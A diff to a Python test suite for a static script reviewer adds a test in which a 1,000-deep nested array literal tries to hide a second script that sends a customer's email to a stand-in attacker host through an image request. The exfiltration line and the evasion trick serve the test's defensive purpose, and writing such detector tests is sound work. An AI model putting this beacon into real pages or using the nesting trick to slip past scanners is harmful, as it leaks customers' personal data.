@@ -126,6 +126,11 @@ def test_deep_or_slow_scripts_give_a_finding_not_a_hang():
     findings = review_static(long, time_limit=0.01)
     assert time.monotonic() - start < 5
     assert [f.rule for f in findings] == ["source.too-complex"] and "time limit" in findings[0].message
+    # One data literal nested 1,000 deep hid a leak in the block's other script behind a medium
+    # finding (an outsider's block, its leak gated so the browsers saw nothing): not cleared.
+    hiding = ("<script>const ribbon = " + "[" * 1000 + "]" * 1000 + ";</script>"
+              "<script>new Image().src = 'https://t.evil.example/p?u=' + flowUi.get('customer.email');</script>")
+    assert [(f.rule, f.severity) for f in review_static(hiding, fields=["customer.email"])] == [("source.too-complex", "high")]
 
 
 # ------------------------------------------------------------------ what the user types (issue 22)
